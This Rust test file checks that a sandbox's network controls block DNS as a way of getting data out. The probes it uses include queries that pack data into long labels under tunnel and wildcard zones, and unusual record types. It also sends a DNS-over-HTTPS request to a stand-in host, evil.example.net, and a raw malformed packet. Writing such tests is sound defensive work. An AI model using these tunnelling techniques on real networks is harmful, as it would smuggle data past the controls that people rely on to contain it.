//! Names as a way out.

use super::{A, TXT, get};
use crate::claim;
use crate::network::network;
use crate::trial::{Grants, Trial, assert_nothing_arrived, one_at_a_time};
use serde_json::json;

claim! {
    /// TXT and the rest carry data both ways.
    fn only_addresses_are_answered(cell) {
        let host = "txt.example.net";
        let trial = Trial::new(cell, Grants::domain(host))
            .step("txt", "dns", json!({"host": host, "type": TXT}));
        let _turn = one_at_a_time();
        trial.prove();
        let before = network().asked("query[TXT] txt.example.net").len();
        let mut trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("address", "dns", json!({"host": "api.example.com", "type": A}));
        // CNAME, NULL, MX, TXT, SRV, HTTPS, ANY.
        for kind in [5, 10, 15, 16, 33, 65, 255] {
            trial = trial.step(&kind.to_string(), "dns", json!({"host": "api.example.com", "type": kind}));
        }
        let report = trial.inside();
        report.ok("address");
        for kind in [5, 10, 15, 16, 33, 65, 255] {
            report.failed(&kind.to_string());
        }
        report.denied("api.example.com", "dns_type_not_allowed");
        let inside = Trial::new(cell, Grants::domain(host)).step("txt", "dns", json!({"host": host, "type": TXT})).inside();
        inside.failed("txt");
        assert_eq!(network().asked("query[TXT] txt.example.net").len(), before, "no question left the host");
    }
}

claim! {
    fn data_in_labels_of_a_denied_zone_stays_inside(cell) {
        let tag = cell.mark().to_owned();
        let long = format!("{tag}-{}", "a".repeat(63 - tag.len() - 1));
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("long", "dns", json!({"host": format!("{long}.tunnel.example.net"), "type": A}))
            .step("stream", "dns", json!({"host": format!("{tag}.tunnel.example.net"), "type": A, "over": "tcp"}))
            .step("straight", "dns", json!({"host": format!("{tag}.tunnel.example.net"), "type": A, "server": "192.0.2.53"}));
        let report = trial.inside();
        for step in ["long", "stream", "straight"] {
            report.failed(step);
        }
        report.denied("tunnel.example.net", "host_not_allowed");
        assert_nothing_arrived(&tag);
        trial.prove();
        assert!(!network().asked(&tag).is_empty(), "the counter-proof is asked");
    }
}

claim! {
    /// A wildcard lets names through that the skill makes up: they are counted.
    fn names_without_number_are_cut_off(cell) {
        let code = "
import socket
reached = 0
for number in range(args['count']):
    try:
        socket.getaddrinfo(f'{args[\"tag\"]}-{number}.wild.example.org', 443, socket.AF_INET, socket.SOCK_STREAM)
        reached += 1
    except OSError:
        pass
if reached < args['count']:
    raise LookupError(f'{reached} names')
";
        let tag = cell.mark();
        let step = |count: u32| json!({"code": code, "args": {"count": count, "tag": tag}});
        Trial::new(cell, Grants::none()).step("many", "python", step(100)).prove();
        let trial = Trial::new(cell, Grants::domain("*.wild.example.org"))
            .step("few", "python", step(10))
            .step("many", "python", step(3000));
        let report = trial.inside();
        report.ok("few");
        assert_eq!(report.outcome().result()["many"]["ok"], false, "{}", report.show());
        report.denied_for_one_of("wild.example.org", &["network_budget_exceeded"]);
    }
}

claim! {
    /// A wildcard allows any label, and a label can be data: 63 bytes of it, many times.
    fn long_names_of_a_permitted_zone_are_refused_beyond_a_budget(cell) {
        let code = "
import socket
reached = 0
for number in range(200):
    label = f'{number:04}' + 'd' * 59
    name = '.'.join([label, label, label]) + '.wild.example.org'
    try:
        socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)
        reached += 1
    except OSError:
        pass
if reached < 200:
    raise LookupError(f'{reached} names')
";
        Trial::new(cell, Grants::none()).step("data", "python", json!({"code": code})).prove();
        let report = Trial::new(cell, Grants::domain("*.wild.example.org"))
            .step("data", "python", json!({"code": code}))
            .inside();
        assert_eq!(report.outcome().result()["data"]["ok"], false, "{}", report.show());
        report.denied_for_one_of("wild.example.org", &["dns_budget_exceeded"]);
    }
}

claim! {
    fn dns_over_https_to_an_unlisted_host_is_denied(cell) {
        // A question for a.example.net, type A.
        let question = "EjQBAAABAAAAAAAAAWEHZXhhbXBsZQNuZXQAAAEAAQ";
        let url = format!("https://evil.example.net/dns-query?dns={question}&tag={}", cell.mark());
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("by name", "urllib", json!({"url": url}))
            .step("by address", "tls", json!({
                "host": "203.0.113.5", "port": 443, "sni": "evil.example.net", "expect": "dns-message",
                "send": [get("evil.example.net", &format!("/dns-query?dns={question}&tag={}", cell.mark()))],
            }));
        trial.prove();
        let before = network().arrived(cell.mark()).len();
        let report = trial.inside();
        report.failed("by name");
        report.failed("by address");
        report.denied("evil.example.net", "host_not_allowed");
        assert_eq!(network().arrived(cell.mark()).len(), before);
    }
}

claim! {
    /// One canonical form: what differs only in spelling is the same name.
    fn spellings_of_a_permitted_name_are_that_name(cell) {
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("upper case", "resolve", json!({"host": "API.Example.COM"}))
            .step("trailing dot", "resolve", json!({"host": "api.example.com."}))
            .step("longer", "resolve", json!({"host": "api.example.com.evil.example.net"}))
            .step("prefixed", "resolve", json!({"host": "xapi.example.com"}));
        let report = trial.inside();
        report.ok("upper case");
        report.ok("trailing dot");
        report.failed("longer");
        report.failed("prefixed");
    }
}

claim! {
    /// As outside: whoever is told that a name doesn't exist need not ask again.
    fn a_name_whose_server_fails_is_not_called_absent(cell) {
        let trial = Trial::new(cell, Grants::domain("*.example.com"))
            .step("absent", "dns", json!({"host": "absent.example.com", "type": A}))
            .step("broken", "dns", json!({"host": "broken.rebind.example.com", "type": A}));
        for report in [trial.outside(), trial.inside()] {
            for (step, code) in [("absent", "rcode 3"), ("broken", "rcode 2")] {
                let failed = report.failed(step);
                assert!(failed["detail"].as_str().is_some_and(|d| d.contains(code)), "{step}\n{}", report.show());
            }
        }
    }
}

claim! {
    /// What isn't one question is told so, and doesn't wait for an answer that never comes.
    fn what_is_no_question_is_refused_at_once_and_recorded(cell) {
        let code = "
import socket, struct
value = []
for packet in (struct.pack('!6H', 7, 0x0100, 2, 0, 0, 0), struct.pack('!6H', 7, 0x2800, 1, 0, 0, 0) + b'data' * 100):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        with socket.socket(socket.AF_INET, kind) as stream:
            stream.settimeout(3)
            stream.connect(('127.0.0.1', 53))
            framed = struct.pack('!H', len(packet)) + packet if kind == socket.SOCK_STREAM else packet
            stream.sendall(framed)
            answer = stream.recv(4096)
            value.append(struct.unpack('!H', (answer[2:] if kind == socket.SOCK_STREAM else answer)[2:4])[0] & 15)
";
        let report = Trial::new(cell, Grants::domain("api.example.com"))
            .step("odd", "python", json!({"code": code}))
            .step("after that", "resolve", json!({"host": "api.example.com"}))
            .inside();
        assert_eq!(report.ok("odd"), &json!([1, 1, 4, 4]));
        report.ok("after that");
        report.denied("127.0.0.1:53", "dns_type_not_allowed");
    }
}

claim! {
    /// A `deny` entry for a name beside it doesn't make a long name a short one.
    fn a_denied_sibling_does_not_open_the_tunnel(cell) {
        let label = format!("{}{}", cell.mark(), "d".repeat(60 - cell.mark().len()));
        let rules = |deny: &str| Grants::network(&format!(
            "egress: [{{domains: [\"*.wild.example.org\"], ports: [443]}}], deny: [{{domains: [{deny}]}}]"
        ));
        let step = json!({"host": format!("{label}.wild.example.org")});
        Trial::new(cell, Grants::none()).step("long", "resolve", step.clone()).prove();
        let before = network().asked(&label).len();
        let report = Trial::new(cell, rules("a.wild.example.org, b.wild.example.org"))
            .step("long", "resolve", step)
            .step("short", "resolve", json!({"host": "short.wild.example.org"}))
            .inside();
        report.failed("long");
        report.ok("short");
        report.denied("wild.example.org", "dns_budget_exceeded");
        assert_eq!(network().asked(&label).len(), before);
    }
}
